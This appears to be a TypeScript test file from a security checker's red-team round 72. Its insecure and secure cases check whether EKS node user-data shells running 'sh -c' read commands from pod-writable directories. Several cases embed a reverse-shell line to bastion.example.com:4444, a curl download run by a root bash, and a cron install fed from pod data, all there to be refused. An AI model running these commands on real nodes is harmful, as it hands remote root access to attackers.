// Red-team round 72 on a shell's `-c` line in EKS NODE user data (RootReads.command's `-c` branch).
// Reported by a fixer: the branch for `sh -c LINE` returned before the command's own `<` input redirections and its
// wrappers' paths (`env -C DIR`, `sudo -D DIR`) were judged, so a root shell reading its program from a file pods
// write (`sh -c 'bash' < /data/cmds`: bash(1) "If no arguments remain after option processing, then commands are
// read from the standard input"; the `-c` line's commands inherit the shell's standard input) or running in a
// directory pods write (`env -C /data sh -c './run'`: env(1) "-C, --chdir=DIR change working directory to DIR") was
// accepted, while the same words without `-c` (`bash < /data/cmds`, `env -C /data ./run`) are refused.
// Threat model (README "node user data", DECIDED round 69): what must be refused is root reading what pods write
// (WRITABLE_DATA /data, /mnt, /srv ...); reading root-owned system files is harmless.
// Result before the fix: I1, I2 accepted (got []); I3-I5 already refused by other readings (the -c line's own
// `./run`, `sh ./x` resolved in the wrapper's directory; the cron file's install); secure S1-S3 accepted.
// Fix (round 72, rootReads.ts RootReads.command): the `-c` branch now runs after the data-directory check of the
// command's program path, `<` reads and wrapper words (one place, as for every command), and the `-c` line's commands
// inherit the shell's standard input (as a function body's and a script file's do); a shell reading its program from
// standard input (here-document or `< FILE` it knows) reads it as a root shell line (rootShellLine: relays too).
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

/** What a root read of a directory pods write is refused as. */
const DATA = /\/data|\/mnt|\/srv/;
/** What a relay or shell served beyond the node is refused as. */
const RELAY = /bastion|shell|relay|beyond|4444|unread|program/i;
const REV = "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1";

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 72): accepted (got []): the `-c` branch returned before the `<` read was judged.
    devNodeCase(
        "I1 sh -c 'bash' < /data/cmds (bash reads its program from the shell's standard input, a file pods write)",
        devNodeScript("dev-i1-72s-nodes", ["sh -c 'bash' < /data/cmds"]),
        DATA,
    ),
    // Was a MISS (fixed in round 72): as I1 (sh(1) -s: "commands are read from the standard input").
    devNodeCase(
        "I2 bash -c 'sh -s' < /data/cmds (sh -s reads its commands from standard input)",
        devNodeScript("dev-i2-72s-nodes", ["bash -c 'sh -s' < /data/cmds"]),
        DATA,
    ),
    devNodeCase(
        "I3 env -C /data sh -c './run' (runs ./run in a directory pods write)",
        devNodeScript("dev-i3-72s-nodes", ["env -C /data sh -c './run'"]),
        DATA,
    ),
    devNodeCase(
        "I4 sudo -D /data sh -c 'sh ./x' (sudo(8) -D/--chdir: runs the script ./x there)",
        devNodeScript("dev-i4-72s-nodes", ["sudo -D /data sh -c 'sh ./x'"]),
        DATA,
    ),
    devNodeCase(
        "I5 sh -c 'cat > /etc/cron.d/x' < /data/line (a cron line pods write, installed by root)",
        devNodeScript("dev-i5-72s-nodes", ["sh -c 'cat > /etc/cron.d/x' < /data/line"]),
        DATA,
    ),
    // Neighbours (round 72 fixer): the `-c` line's commands inherit the shell's standard input, wherever it comes
    // from, and the shell's own redirections are judged whichever shell or descriptor spelling.
    devNodeCase(
        "N1 a file root wrote holding a reverse shell, run by sh -c 'bash' < FILE (the inner bash reads it)",
        devNodeScript("dev-n1-72s-nodes", [
            `printf '%s\\n' '${REV}' > /var/lib/ops/cmds`,
            "sh -c 'bash' < /var/lib/ops/cmds",
        ]),
        RELAY,
    ),
    devNodeCase(
        "N2 a here-document holding a reverse shell fed to sh -c 'exec bash'",
        devNodeScript("dev-n2-72s-nodes", ["sh -c 'exec bash' <<'EOF'", REV, "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "N3 nested: sh -c \"bash -c 'sh'\" 0< /srv/cmds",
        devNodeScript("dev-n3-72s-nodes", [`sh -c "bash -c 'sh'" 0< /srv/cmds`]),
        DATA,
    ),
    devNodeCase(
        "N4 a group's redirect: { sh -c 'bash'; } < /mnt/cmds",
        devNodeScript("dev-n4-72s-nodes", ["{ sh -c 'bash'; } < /mnt/cmds"]),
        DATA,
    ),
    devNodeCase(
        "N5 busybox sh -c 'sh' < /data/cmds (a multi-call binary's shell applet)",
        devNodeScript("dev-n5-72s-nodes", ["busybox sh -c 'sh' < /data/cmds"]),
        DATA,
    ),
    devNodeCase(
        "N6 sudo -D /data bash -c 'ls' (the wrapper's directory is pods')",
        devNodeScript("dev-n6-72s-nodes", ["sudo -D /data bash -c 'ls'"]),
        DATA,
    ),
    // Neighbours: a shell reading its program from standard input (no `-c`) reads it as a root shell line, relays
    // too (they were read only from a here-document fed straight to the user data's own bash).
    devNodeCase(
        "N7 bash < FILE of a file root wrote holding a reverse shell",
        devNodeScript("dev-n7-72s-nodes", [`printf '%s\\n' '${REV}' > /var/lib/ops/cmds`, "bash < /var/lib/ops/cmds"]),
        RELAY,
    ),
    devNodeCase(
        "N8 a function running bash, fed a here-document holding a reverse shell",
        devNodeScript("dev-n8-72s-nodes", ["f() { bash; }", "f <<'EOF'", REV, "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "N9 sh -c 'bash' < FILE of a download (a program the pack cannot read)",
        devNodeScript("dev-n9-72s-nodes", [
            "curl -fsSL -o /opt/cmds https://downloads.example.com/cmds",
            "sh -c 'bash' < /opt/cmds",
        ]),
        RELAY,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "S1 sh -c 'wc -l' < /etc/hosts (a root-owned system file counted)",
        devNodeScript("dev-s1-72s-nodes", ["sh -c 'wc -l' < /etc/hosts"]),
    ),
    devNodeCase(
        "S2 sh -c 'sort -u > /var/tmp/x' < /etc/passwd",
        devNodeScript("dev-s2-72s-nodes", ["sh -c 'sort -u > /var/tmp/x' < /etc/passwd"]),
    ),
    devNodeCase(
        "S3 env -C /var/tmp sh -c 'ls' (a root-owned working directory)",
        devNodeScript("dev-s3-72s-nodes", ["env -C /var/tmp sh -c 'ls'"]),
    ),
    // Neighbours (round 72 fixer): secure twins of N1, N2 and N6.
    devNodeCase(
        "T1 a file root wrote with a harmless command, run by sh -c 'bash' < FILE",
        devNodeScript("dev-t1-72s-nodes", [
            "printf '%s\\n' 'systemctl restart chronyd' > /var/lib/ops/cmds",
            "sh -c 'bash' < /var/lib/ops/cmds",
        ]),
    ),
    devNodeCase(
        "T2 a quoted here-document with a harmless command fed to sh -c 'exec bash'",
        devNodeScript("dev-t2-72s-nodes", ["sh -c 'exec bash' <<'EOF'", "systemctl restart chronyd", "EOF"]),
    ),
    devNodeCase(
        "T3 sudo -D /var/tmp bash -c 'ls' (a root-owned working directory)",
        devNodeScript("dev-t3-72s-nodes", ["sudo -D /var/tmp bash -c 'ls'"]),
    ),
    devNodeCase(
        "T4 bash < FILE of a file root wrote with a harmless command",
        devNodeScript("dev-t4-72s-nodes", [
            "printf '%s\\n' 'systemctl restart chronyd' > /var/lib/ops/cmds",
            "bash < /var/lib/ops/cmds",
        ]),
    ),
];

describeNodeCases("red team 72: a shell's -c line (its redirections and wrappers)", insecure, secure);
